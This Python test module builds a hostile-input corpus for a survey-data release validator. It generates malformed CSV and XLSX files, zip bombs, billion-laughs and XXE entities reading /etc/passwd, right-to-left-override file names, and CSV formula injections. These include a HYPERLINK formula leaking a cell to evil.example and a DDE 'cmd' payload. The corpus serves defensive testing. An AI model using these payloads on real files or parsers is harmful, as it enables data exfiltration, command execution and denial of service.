"""The hostile-input corpus, one case per entry.

Every case is a release file that must be refused whole: its name, how its bytes
are made (by code at test time, so zip bombs and oversize files are never
committed), and the exact problems it must get as (row, column, check) plus a
fragment of the first message. Each case has its own year (1901 on), so the
whole corpus can sit in one raw/ folder beside the bundled 2014-2023 files: only
one file per year is allowed.

`TOLERATED` holds odd files that must load (with a warning, or with text that
every export has to neutralise); `FOLDER_CASES` are tricks that live in the
release folder itself (links, pipes), judged by `discover`.
"""

from __future__ import annotations

import functools
import gzip
import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl

SRC = "https://example.org/itip"
FIRST_YEAR = 1901
HEADER = "survey;indicator;value;n;source"
TRUST = "innbyggere;trust_personal_data_safe;{value};{n};" + SRC
RIGHTS = "innbyggere;trust_rights_safeguarded;52;;" + SRC
#: A formula a spreadsheet would run when the cell is opened (CSV/formula injection).
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klikk her")'

Problem3 = tuple[int | None, str | None, str]


@dataclass(frozen=True)
class Case:
    """One hostile file and the exact outcome it must get."""

    id: str
    make: Callable[[int], bytes] | None
    #: (row, column, check) of every problem, in the order check_release reports them.
    expect: tuple[Problem3, ...]
    #: A fragment of the first problem's message.
    phrase: str
    ext: str = "csv"
    #: The file name, when it is not itip_<year>.<ext>.
    name: Callable[[int], str] | None = None
    #: Writes the file itself (sparse files), instead of `make`.
    writer: Callable[[Path], None] | None = None
    #: Settings (itip.settings field names) changed for this case (not usable in a shared ingest run).
    limits: dict[str, int] = field(default_factory=dict)
    #: Measured for bounded memory and time in a fresh process.
    heavy: bool = False

    def file_name(self, year: int) -> str:
        return self.name(year) if self.name else f"itip_{year}.{self.ext}"

    def shown_name(self, year: int) -> str:
        """The file as problems name it: control and non-ASCII characters escaped."""
        name = self.file_name(year)
        return name if name.isascii() and name.isprintable() else name.encode("unicode_escape").decode("ascii")

    def write(self, folder: Path, year: int) -> Path:
        path = folder / self.file_name(year)
        if self.writer is not None:
            self.writer(path)
        else:
            assert self.make is not None
            path.write_bytes(self.make(year))
        return path


# --- building blocks ---------------------------------------------------------------------


def csv_rows(*rows: str, encoding: str = "utf-8", newline: str = "\n") -> Callable[[int], bytes]:
    """A CSV file from its lines; `{year}` becomes the case's year."""

    def make(year: int) -> bytes:
        return "".join(r.replace("{year}", str(year)) + newline for r in rows).encode(encoding)

    return make


def trust(value: str = "47", n: str = "") -> str:
    return TRUST.format(value=value, n=n)


def raw(data: bytes) -> Callable[[int], bytes]:
    return lambda year: data


def workbook(rows: list[list[object]], setup: Callable[[openpyxl.Workbook], None] | None = None) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "tall"
    for row in rows:
        ws.append(row)
    if setup is not None:
        setup(wb)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


GOOD_SHEET: list[list[object]] = [
    ["Undersøkelse", "Indikator", "Andel", "Antall", "Kilde"],
    ["innbyggere", "trust_personal_data_safe", 47, 1000, SRC],
    ["innbyggere", "trust_rights_safeguarded", 52, None, SRC],
]


@functools.cache
def good_xlsx() -> bytes:
    return workbook(GOOD_SHEET)


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {i.filename: archive.read(i) for i in archive.infolist()}


def rezip(data: bytes, change: Callable[[str, bytes], bytes]) -> bytes:
    """The workbook with its parts passed through `change`."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts_of(data).items():
            archive.writestr(name, change(name, content))
    return out.getvalue()


@dataclass(frozen=True)
class Part:
    """A zip member as raw deflate data, for archives zipfile would not write."""

    name: str
    deflated: bytes
    crc: int
    size: int


def deflate(name: str, *segments: tuple[bytes, int]) -> Part:
    """A member made of (chunk, times) segments. Each chunk is compressed once and
    its raw deflate blocks repeated (a full flush makes them self-contained), so
    a gigabyte of spaces costs milliseconds."""
    body = []
    crc = size = 0
    for chunk, times in segments:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        block = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
        body.append(block * times)
        for _ in range(times):
            crc = zlib.crc32(chunk, crc)
        size += len(chunk) * times
    return Part(name, b"".join(body) + b"\x03\x00", crc, size)  # \x03\x00: an empty final block


def raw_zip(parts: list[Part], flag_bits: int = 0, aliases: int = 0) -> bytes:
    """A zip archive written by hand. `aliases` adds that many directory entries
    that all point at the first part's data (an overlapping zip bomb)."""
    out = bytearray()
    central = bytearray()
    entries = 0
    for part in parts:
        offset = len(out)
        name = part.name.encode()
        out += struct.pack(
            "<4s5H3L2H", b"PK\x03\x04", 20, flag_bits, 8, 0, 33, part.crc, len(part.deflated), part.size, len(name), 0
        )
        out += name + part.deflated
        copies = [name] + ([f"{part.name}.{i}".encode() for i in range(aliases)] if offset == 0 else [])
        for alias in copies:
            central += struct.pack(
                "<4s6H3L5H2L",
                b"PK\x01\x02",
                20,
                20,
                flag_bits,
                8,
                0,
                33,
                part.crc,
                len(part.deflated),
                part.size,
                len(alias),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            central += alias
            entries += 1
    start = len(out)
    out += central
    out += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, entries, entries, len(central), start, 0)
    return bytes(out)


def workbook_parts(replace: dict[str, Part] | None = None) -> list[Part]:
    """The parts of a good workbook as raw members, some replaced."""
    replace = replace or {}
    parts = []
    for name, content in parts_of(good_xlsx()).items():
        parts.append(replace.pop(name) if name in replace else deflate(name, (content, 1)))
    return parts + list(replace.values())


def sheet_xml() -> bytes:
    return parts_of(good_xlsx())["xl/worksheets/sheet1.xml"]


def padded_sheet(padding: int, mb: int) -> Part:
    """sheet1.xml with `mb` MB of `padding` bytes (whitespace, legal XML) before its data."""
    xml = sheet_xml()
    cut = xml.index(b"<sheetData>")
    return deflate("xl/worksheets/sheet1.xml", (xml[:cut], 1), (bytes([padding]) * (1 << 20), mb), (xml[cut:], 1))


#: The billion laughs: ten levels of ten references, 10^9 'lol's from under 1 kB.
LAUGHS = (
    b'<!DOCTYPE worksheet [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
    + b"]>"
)


def with_doctype(xml: bytes, doctype: bytes, reference: tuple[bytes, bytes] | None = None) -> bytes:
    """The XML part with a document type declaration after its XML declaration."""
    xml = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", xml)
    if reference is not None:
        xml = xml.replace(*reference, 1)
    return b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + doctype + xml


def entity_in(part: str, reference: tuple[bytes, bytes] | None = None, doctype: bytes = LAUGHS) -> bytes:
    return rezip(good_xlsx(), lambda name, c: with_doctype(c, doctype, reference) if name == part else c)


def shared_strings_bomb() -> bytes:
    """A workbook whose cell A2 is shared string 0, the billion laughs (openpyxl
    itself writes strings inline, so the part and its registration are added)."""
    sst = (
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
        b"<si><t>&lol9;</t></si></sst>"
    )

    def change(name: str, content: bytes) -> bytes:
        if name == "[Content_Types].xml":
            return content.replace(
                b"</Types>",
                b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml" /></Types>',
            )
        if name == "xl/_rels/workbook.xml.rels":
            return content.replace(
                b"</Relationships>",
                b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                b'sharedStrings" Target="sharedStrings.xml" Id="rId9" /></Relationships>',
            )
        if name == "xl/worksheets/sheet1.xml":
            return content.replace(
                b'<c r="A2" t="inlineStr"><is><t>innbyggere</t></is></c>', b'<c r="A2" t="s"><v>0</v></c>'
            )
        return content

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts_of(good_xlsx()).items():
            archive.writestr(name, change(name, content))
        archive.writestr("xl/sharedStrings.xml", with_doctype(sst, LAUGHS.replace(b"worksheet", b"sst")))
    return out.getvalue()


def utf16_doctype_sheet() -> bytes:
    def change(name: str, content: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return content
        xml = with_doctype(content, LAUGHS, (b"<v>47</v>", b"<v>&lol9;</v>")).decode("utf-8")
        return xml.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")

    return rezip(good_xlsx(), change)


def damaged_xlsx() -> bytes:
    """A workbook with one byte of its compressed sheet flipped (CRC or deflate error)."""
    data = bytearray(good_xlsx())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start + info.compress_size // 2] ^= 0xFF
    return bytes(data)


def ole(stream: str) -> bytes:
    """The start of an OLE compound file (an encrypted .xlsx or an .xls) naming one stream."""
    body = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + stream.encode("utf-16-le")
    return body + bytes(4096 - len(body))


def formula_as_text(wb: openpyxl.Workbook) -> None:
    ws = wb.active
    assert ws is not None
    ws["C2"].value = FORMULA
    ws["C2"].data_type = "s"  # a text cell holding formula text, as a pasted value is stored


def formula_without_result(wb: openpyxl.Workbook) -> None:
    ws = wb.active
    assert ws is not None
    ws["E2"] = FORMULA  # a real formula; openpyxl saves no computed result


def far_row(wb: openpyxl.Workbook) -> None:
    ws = wb.active
    assert ws is not None
    ws.cell(row=1_048_576, column=1, value="the last row a sheet has")


def far_columns(wb: openpyxl.Workbook) -> None:
    ws = wb.active
    assert ws is not None
    for r in range(2, 40):
        ws.cell(row=r, column=16_384, value="x")


@functools.cache
def zip_bomb() -> bytes:
    """A workbook whose sheet unpacks to 1 GiB of spaces from about 1 MB."""
    return raw_zip(workbook_parts({"xl/worksheets/sheet1.xml": padded_sheet(0x20, 1024)}))


def many_directory_entries() -> bytes:
    filler = [deflate(f"xl/media/{i:05d}-{'x' * 200}.bin", (b"", 1)) for i in range(4_500)]
    return raw_zip(workbook_parts() + filler)


def sparse(size: int) -> Callable[[Path], None]:
    """A file of `size` bytes that takes no disk space (and no time to write)."""

    def write(path: Path) -> None:
        with path.open("wb") as fh:
            fh.write(f"{HEADER}\n{trust()}\n".encode())
            fh.truncate(size)

    return write


def arabic(year: int) -> str:
    return "".join(chr(0x0660 + int(d)) for d in str(year))


def fullwidth(year: int) -> str:
    return "".join(chr(0xFF10 + int(d)) for d in str(year))


def junk(seed: int, size: int, low: int = 1) -> bytes:
    rnd = random.Random(seed)
    return bytes(rnd.randrange(low, 256) for _ in range(size))


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00" + junk(7, 300, 0)


def rows_csv(count: int, row: str) -> Callable[[int], bytes]:
    return lambda year: (HEADER + "\n" + (row + "\n") * count).encode()


# --- the corpus --------------------------------------------------------------------------

V, N, Y = "value", "n", "year"
ENC = (None, None, "encoding")
FMT = (None, None, "format")
SIZE = (None, None, "size")

CASES: list[Case] = [
    # wrong and mixed encodings
    Case(
        "mixed-utf8-row-in-cp1252",
        lambda y: (
            f"{HEADER}\n{trust()} Rambøll\n".encode()
            + f"{RIGHTS} Rambøll\ninnbyggere;digital_skills_below_medium;12;;Rambøll\n".encode("cp1252")
        ),
        ((2, None, "encoding"),),
        "is UTF-8 but row(s) 3, 4 are not (Windows-1252?): the file mixes two text encodings",
    ),
    Case(
        "mixed-cp1252-row-in-utf8",
        lambda y: (
            f"{HEADER}\n{trust()} Rambøll\n{RIGHTS} Rambøll\n".encode()
            + "innbyggere;digital_skills_below_medium;12;;Rambøll\n".encode("cp1252")
        ),
        ((4, None, "encoding"),),
        "is not UTF-8 (Windows-1252?) but row(s) 2, 3 are",
    ),
    Case(
        "utf8-bom-on-cp1252",
        lambda y: b"\xef\xbb\xbf" + f"{HEADER}\n{trust()} Rambøll\n{RIGHTS} Rambøll\n".encode("cp1252"),
        ((1, None, "encoding"),),
        "is UTF-8 but row(s) 2, 3 are not",
    ),
    Case("utf32", csv_rows(HEADER, trust(), encoding="utf-32"), (ENC,), "is UTF-32"),
    Case(
        "utf16-without-bom", csv_rows(HEADER, trust(), encoding="utf-16-le"), (ENC,), "UTF-16 without a byte-order mark"
    ),
    Case(
        "utf16-cut-in-half-a-character",
        lambda y: f"{HEADER}\n{trust()}\n".encode("utf-16") + b"\x41",
        (ENC,),
        "starts like UTF-16 but is not valid UTF-16",
    ),
    Case("no-known-encoding", raw(bytes(range(128, 256)) * 20), (ENC,), "cannot tell the text encoding"),
    # binary junk with a .csv name
    Case("png-named-csv", raw(PNG), (FMT,), "looks binary (contains NUL bytes)"),
    Case("gzip-named-csv", lambda y: gzip.compress(f"{HEADER}\n{trust()}\n".encode(), mtime=0), (FMT,), "looks binary"),
    Case("random-bytes-without-nul", raw(junk(1, 3000)), (FMT,), "looks binary (full of control characters)"),
    Case("xlsx-named-csv", lambda y: good_xlsx(), (FMT,), "is a zip archive (a spreadsheet?) with a .csv name"),
    # empty, header-only, no header
    Case("zero-bytes", raw(b""), ((None, None, "empty"),), "is empty"),
    Case("blank-lines-only", raw(b"\n  \n\r\n;;;\n"), ((None, None, "empty"),), "has no content"),
    Case("bom-only", raw(b"\xef\xbb\xbf"), ((None, None, "empty"),), "has no content"),
    Case("header-only", csv_rows(HEADER), ((1, None, "empty"),), "has a header but no data rows"),
    Case(
        "header-below-25-title-rows",
        csv_rows(*[f"IT i praksis, tabell {i}" for i in range(25)], HEADER, trust()),
        ((None, None, "header"),),
        "no header row found in the first 20 rows",
    ),
    # missing, doubled and extra columns
    Case(
        "missing-source-column",
        csv_rows("survey;indicator;value", "innbyggere;trust_personal_data_safe;47"),
        ((1, None, "missing_column"),),
        "required column source / kilde is missing",
    ),
    Case(
        "value-column-twice",
        csv_rows("survey;indicator;value;andel;source", f"innbyggere;trust_personal_data_safe;47;48;{SRC}"),
        ((1, "andel", "header"),),
        "column 'value' appears twice",
    ),
    Case(
        "more-cells-than-header",
        csv_rows(HEADER, trust() + ";extra", RIGHTS),
        ((2, None, "row_width"),),
        "row has 6 cells but the header has 5",
    ),
    # quoting and separators
    Case(
        "unclosed-quote-swallows-rows",
        csv_rows(HEADER, f'innbyggere;trust_personal_data_safe;47;;"{SRC}', RIGHTS, RIGHTS.replace("52", "53")),
        ((2, None, "format"),),
        "never closed",
    ),
    Case(
        "quote-in-the-middle-of-a-quoted-cell",
        csv_rows(HEADER, f'innbyggere;trust_personal_data_safe;47;;"Rambøll "rapport" 2020";{SRC}'),
        ((2, None, "format"),),
        'write a quote inside a cell as ""',
    ),
    Case(
        "cell-over-csv-field-limit",
        csv_rows(HEADER, trust() + " " + "x" * 200_000),
        ((2, None, "format"),),
        "has a cell longer than 131,072 characters",
    ),
    Case(
        "comma-row-in-semicolon-file",
        csv_rows(HEADER, trust(), RIGHTS.replace(";", ","), "innbyggere;digital_skills_below_medium;12;;" + SRC),
        ((3, None, "separator"),),
        "row is separated by ',' but the file (header row 1) by ';'",
    ),
    Case(
        "semicolon-rows-under-comma-header",
        csv_rows(HEADER.replace(";", ","), trust(), RIGHTS, "innbyggere,digital_skills_below_medium,12,," + SRC),
        ((2, None, "separator"), (3, None, "separator")),
        "row is separated by ';' but the file (header row 1) by ','",
    ),
    Case(
        "tab-row-with-decimal-comma-in-semicolon-file",
        csv_rows(HEADER, trust(), "innbyggere\ttrust_rights_safeguarded\t36,4\t\t" + SRC),
        ((3, None, "separator"),),
        "row is separated by tab",
    ),
    # numbers in odd formats, NaN and infinity
    Case("value-nan", csv_rows(HEADER, trust("NaN")), ((2, V, "value_format"),), "value is not a percentage"),
    Case(
        "value-infinity",
        csv_rows(HEADER, trust("inf"), RIGHTS.replace("52", "-Infinity")),
        ((2, V, "value_format"), (3, V, "value_format")),
        "value is not a percentage",
    ),
    Case(
        "value-overflows-to-infinity",
        csv_rows(HEADER, trust("1" + "0" * 400)),
        ((2, V, "value_format"),),
        "value is not a finite number",
    ),
    Case("value-exponent", csv_rows(HEADER, trust("4.7e1")), ((2, V, "value_format"),), "not a percentage"),
    Case("value-thousands-and-decimals", csv_rows(HEADER, trust("1,234.5")), ((2, V, "value_format"),), "percentage"),
    Case("value-arabic-indic-digits", csv_rows(HEADER, trust("٤٧")), ((2, V, "value_format"),), "not a percentage"),
    Case("value-fullwidth-digits", csv_rows(HEADER, trust("４７")), ((2, V, "value_format"),), "not a percentage"),
    Case("value-unicode-minus", csv_rows(HEADER, trust("−5")), ((2, V, "value_format"),), "not a percentage"),
    Case("value-over-100", csv_rows(HEADER, trust("100,01 %")), ((2, V, "in_range(0, 100)"),), "is outside 0-100"),
    Case("value-negative", csv_rows(HEADER, trust("-0,5")), ((2, V, "in_range(0, 100)"),), "is outside 0-100"),
    Case("value-formula", csv_rows(HEADER, trust(FORMULA)), ((2, V, "value_format"),), "not a percentage"),
    Case("n-negative", csv_rows(HEADER, trust(n="-5")), ((2, N, "n_format"),), "positive whole number"),
    Case(
        "n-fractional",
        csv_rows(HEADER, trust(n="12.5"), RIGHTS.replace(";;", ";12,5;")),
        ((2, N, "n_format"), (3, N, "n_format")),
        "positive whole number",
    ),
    Case("n-zero", csv_rows(HEADER, trust(n="0")), ((2, N, "n_format"),), "positive whole number"),
    Case("n-exponent", csv_rows(HEADER, trust(n="1e3")), ((2, N, "n_format"),), "positive whole number"),
    Case("n-nan", csv_rows(HEADER, trust(n="NaN")), ((2, N, "n_format"),), "positive whole number"),
    Case("n-arabic-indic-digits", csv_rows(HEADER, trust(n="١٠٠٠")), ((2, N, "n_format"),), "positive whole number"),
    Case("n-thousands-dot", csv_rows(HEADER, trust(n="1.000")), ((2, N, "n_format"),), "positive whole number"),
    Case("n-beyond-any-survey", csv_rows(HEADER, trust(n="9" * 30)), ((2, N, "n_format"),), "larger than any survey"),
    Case(
        "year-with-a-space-inside",
        csv_rows("year;" + HEADER, "20 20;" + trust()),
        ((2, Y, "year_format"),),
        "not a four-digit year",
    ),
    Case(
        "year-fullwidth-digits",
        lambda y: f"year;{HEADER}\n{fullwidth(y)};{trust()}\n".encode(),
        ((2, Y, "year_format"),),
        "not a four-digit year",
    ),
    Case(
        "year-contradicts-file-name",
        lambda y: f"year;{HEADER}\n{y - 1};{trust()}\n".encode(),
        ((2, Y, "year_matches_file"),),
        "contradicts the year in the file name",
    ),
    # duplicate and conflicting rows
    Case(
        "duplicate-row",
        csv_rows(HEADER, trust(), trust()),
        ((2, None, "duplicate_key"), (3, None, "duplicate_key")),
        "repeat row 3",
    ),
    Case(
        "conflicting-rows-in-two-languages",
        csv_rows(
            "survey;segment;indicator;value;source",
            f"innbyggere;alle;trust_personal_data_safe;47;{SRC}",
            f"citizens;all;trust_personal_data_safe;52;{SRC}",
        ),
        ((2, None, "duplicate_key"), (3, None, "duplicate_key")),
        "repeat row 3",
    ),
    Case(
        "thousands-of-copies-of-one-row",
        rows_csv(9_000, trust()),
        tuple((r, None, "duplicate_key") for r in range(2, 9_002)),
        "repeat row 3, 4, 5, 6, 7 and 8,994 more",
        heavy=True,
    ),
    Case(
        "question-and-indicator-disagree",
        csv_rows(
            "survey;indicator;question;value;source",
            f"virksomheter;good_information_security;opplever at de har sikret sine data godt nok;60;{SRC}",
        ),
        ((2, "question", "question_indicator"),),
        "question is a wording of 'data_secured_well_enough'",
    ),
    # invisible and look-alike characters
    Case(
        "zero-width-space-in-indicator",
        csv_rows(HEADER, trust().replace("data_safe", "data_safe\u200b")),
        ((2, "indicator", "indicator_known"),),
        "closest codebook entry: 'trust_personal_data_safe'",
    ),
    Case(
        "cyrillic-e-in-survey",
        csv_rows(HEADER, trust().replace("innbyggere", "innbyggеre")),
        ((2, "survey", "survey_known"),),
        "unknown survey",
    ),
    Case(
        "source-only-spaces",
        csv_rows(HEADER, "innbyggere;trust_personal_data_safe;47;;\u00a0 \u202f"),
        ((2, "source", "str_length(1, None)"),),
        "source is empty",
    ),
    # sizes
    Case(
        "far-over-the-size-limit",
        None,
        (SIZE,),
        "is 104,857,600 bytes, over the limit of 20,971,520 (ITIP_MAX_RELEASE_BYTES)",
        writer=sparse(100 * 1024 * 1024),
        heavy=True,
    ),
    Case(
        "over-a-configured-size-limit",
        csv_rows(HEADER, trust()),
        (SIZE,),
        "over the limit of 64 (ITIP_MAX_RELEASE_BYTES)",
        limits={"max_release_bytes": 64},
    ),
    Case(
        "one-line-of-a-million-cells",
        lambda y: (HEADER + "\n" + "ab;" * 400_000 + "\n").encode(),
        ((2, None, "size"),),
        "row is longer than 1,000,000 characters",
        heavy=True,
    ),
    Case(
        "more-rows-than-the-limit",
        rows_csv(10_001, trust()),
        ((10_001, None, "size"),),
        "has more than 10,000 rows, over the limit (ITIP_MAX_RELEASE_ROWS)",
        heavy=True,
    ),
    Case(
        "more-cells-than-the-limit",
        rows_csv(2_500, ";" * 99),
        ((2_001, None, "size"),),
        "has more than 200,000 cells, over the limit (ITIP_MAX_RELEASE_CELLS)",
        heavy=True,
    ),
    # spreadsheets
    Case("xlsx-cut-off", lambda y: good_xlsx()[: len(good_xlsx()) // 2], (FMT,), "is cut off or damaged", ext="xlsx"),
    Case("xlsx-damaged-part", lambda y: damaged_xlsx(), (FMT,), "is a damaged .xlsx workbook", ext="xlsx"),
    Case("xlsx-password-protected", raw(ole("EncryptedPackage")), (FMT,), "is password-protected", ext="xlsx"),
    Case("xls-saved-as-xlsx", raw(ole("Workbook")), (FMT,), "old-style .xls workbook", ext="xlsx"),
    Case(
        "xlsx-zip-encrypted",
        lambda y: raw_zip(workbook_parts(), flag_bits=0x1),
        (FMT,),
        "is encrypted (part '",
        ext="xlsx",
    ),
    Case(
        "csv-named-xlsx", csv_rows(HEADER, trust()), (FMT,), "is not an .xlsx workbook (not a zip archive)", ext="xlsx"
    ),
    Case(
        "zip-without-a-workbook",
        lambda y: raw_zip([deflate("readme.txt", (b"hello", 1))]),
        (FMT,),
        "cannot be opened as an .xlsx workbook",
        ext="xlsx",
    ),
    Case(
        "xlsx-zip-bomb",
        lambda y: zip_bomb(),
        (SIZE,),
        "over the limit of 20,971,520 (ITIP_MAX_XLSX_UNCOMPRESSED_BYTES): a zip bomb",
        ext="xlsx",
        heavy=True,
    ),
    Case(
        "xlsx-overlapping-zip-bomb",
        lambda y: raw_zip([deflate("xl/media/image1.bin", (b" " * (1 << 20), 16)), *workbook_parts()], aliases=500),
        (SIZE,),
        "unpacks to 8,",
        ext="xlsx",
        heavy=True,
    ),
    Case(
        "xlsx-part-packed-a-thousand-fold",
        lambda y: raw_zip(workbook_parts({"xl/worksheets/sheet1.xml": padded_sheet(0x0A, 10)})),
        (SIZE,),
        "part 'xl/worksheets/sheet1.xml' unpacks",
        ext="xlsx",
        heavy=True,
    ),
    Case(
        "xlsx-huge-zip-directory",
        lambda y: many_directory_entries(),
        (SIZE,),
        "its zip directory is",
        ext="xlsx",
        heavy=True,
    ),
    Case(
        "xlsx-billion-laughs-in-sheet",
        lambda y: entity_in("xl/worksheets/sheet1.xml", (b"<v>47</v>", b"<is><t>&lol9;</t></is>")),
        (FMT,),
        "part 'xl/worksheets/sheet1.xml' has an XML document type declaration",
        ext="xlsx",
        heavy=True,
    ),
    Case(
        "xlsx-billion-laughs-in-shared-strings",
        lambda y: shared_strings_bomb(),
        (FMT,),
        "part 'xl/sharedStrings.xml' has an XML document type declaration",
        ext="xlsx",
        heavy=True,
    ),
    Case(
        "xlsx-external-entity-in-workbook",
        lambda y: entity_in(
            "xl/workbook.xml",
            (b"<sheets>", b"<sheets>&xxe;"),
            b'<!DOCTYPE workbook [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        ),
        (FMT,),
        "part 'xl/workbook.xml' has an XML document type declaration",
        ext="xlsx",
        heavy=True,
    ),
    Case(
        "xlsx-utf16-sheet-with-entities",
        lambda y: utf16_doctype_sheet(),
        (FMT,),
        "part 'xl/worksheets/sheet1.xml' has an XML document type declaration",
        ext="xlsx",
        heavy=True,
    ),
    Case(
        "xlsx-cell-in-the-last-row",
        lambda y: workbook(GOOD_SHEET, far_row),
        ((10_001, None, "size"),),
        "has more than 10,000 rows",
        ext="xlsx",
        heavy=True,
    ),
    Case(
        "xlsx-cells-in-the-last-column",
        lambda y: workbook(GOOD_SHEET, far_columns),
        ((14, None, "size"),),
        "has more than 200,000 cells",
        ext="xlsx",
        heavy=True,
    ),
    Case(
        "xlsx-formula-text-in-value",
        lambda y: workbook(GOOD_SHEET, formula_as_text),
        ((2, V, "value_format"),),
        "not a percentage",
        ext="xlsx",
    ),
    Case(
        "xlsx-formula-without-saved-result",
        lambda y: workbook(GOOD_SHEET, formula_without_result),
        ((2, "E", "formula_without_result"),),  # issue 14: a problem, not an empty cell
        "saved without its result",
        ext="xlsx",
    ),
    Case(
        "xlsx-excel-error-value",
        lambda y: workbook([GOOD_SHEET[0], ["innbyggere", "trust_personal_data_safe", "#DIV/0!", 1000, SRC]]),
        ((2, V, "value_format"),),
        "not a percentage",
        ext="xlsx",
    ),
    Case(
        "xlsx-header-only",
        lambda y: workbook(GOOD_SHEET[:1]),
        ((1, None, "empty"),),
        "has a header but no data rows",
        ext="xlsx",
    ),
    Case("xlsx-empty-sheet", lambda y: workbook([]), ((None, None, "empty"),), "has no content", ext="xlsx"),
    # file names with path tricks (the file itself is good)
    Case(
        "name-ends-in-a-line-break",
        csv_rows(HEADER, trust()),
        ((None, None, "file_name"),),
        "itip_<YEAR>.csv",
        name=lambda y: f"itip_{y}.csv\n",
    ),
    Case(
        "name-with-arabic-indic-year",
        csv_rows(HEADER, trust()),
        ((None, None, "file_name"),),
        "itip_<YEAR>.csv",
        name=lambda y: f"itip_{arabic(y)}.csv",
    ),
    Case(
        "name-with-fullwidth-year",
        csv_rows(HEADER, trust()),
        ((None, None, "file_name"),),
        "itip_<YEAR>.csv",
        name=lambda y: f"itip_{fullwidth(y)}.csv",
    ),
    Case(
        "name-with-right-to-left-override",
        csv_rows(HEADER, trust()),
        ((None, None, "file_name"),),
        "itip_<YEAR>.csv",
        name=lambda y: f"itip_{y}\u202evsc.xlsx",
    ),
]


def year_of(case: Case) -> int:
    return FIRST_YEAR + CASES.index(case)


# --- odd files that must load ------------------------------------------------------------


@dataclass(frozen=True)
class Tolerated:
    id: str
    make: Callable[[int], bytes]
    #: What loads: (indicator, value, source, note) per row.
    loads: tuple[tuple[str, float, str, str | None], ...]
    warning: str | None = None
    ext: str = "csv"


#: Text a spreadsheet would run as a formula (or DDE command) when the cell is opened.
FORMULA_SOURCE = FORMULA
FORMULA_NOTES = ("@SUM(1+1)*cmd|' /C calc'!A0", "+47-2", "-2+3", "=1+1")

TOLERATED: list[Tolerated] = [
    Tolerated(
        "formula-text-in-source-and-notes",
        lambda y: (
            "survey;indicator;value;source;note\n"
            + "".join(
                f'innbyggere;{ind};{v};"{FORMULA_SOURCE.replace(chr(34), chr(34) * 2)}";{note}\n'
                for ind, v, note in zip(
                    [
                        "trust_personal_data_safe",
                        "trust_rights_safeguarded",
                        "digital_skills_below_medium",
                        "digital_skills_medium_or_better",
                    ],
                    [47, 52, 12, 80],
                    FORMULA_NOTES,
                    strict=True,
                )
            )
        ).encode(),
        tuple(
            (ind, v, FORMULA_SOURCE, note)
            for ind, v, note in zip(
                [
                    "trust_personal_data_safe",
                    "trust_rights_safeguarded",
                    "digital_skills_below_medium",
                    "digital_skills_medium_or_better",
                ],
                [47.0, 52.0, 12.0, 80.0],
                FORMULA_NOTES,
                strict=True,
            )
        ),
    ),
    Tolerated(
        "cp1252-with-bytes-that-look-like-utf8",
        lambda y: (f"{HEADER}\n{trust()} «PÅ» Rambøll\ninnbyggere;trust_rights_safeguarded;52;;{SRC} Å–Ø–æ\n").encode(
            "cp1252"
        ),
        (
            ("trust_personal_data_safe", 47.0, f"{SRC} «PÅ» Rambøll", None),
            ("trust_rights_safeguarded", 52.0, f"{SRC} Å–Ø–æ", None),
        ),
    ),
    Tolerated(
        "extra-named-column",
        lambda y: f"{HEADER};intern kommentar\n{trust()};ikke publiser\n".encode(),
        (("trust_personal_data_safe", 47.0, SRC, None),),
        warning="column 'intern kommentar' is not used",
    ),
]
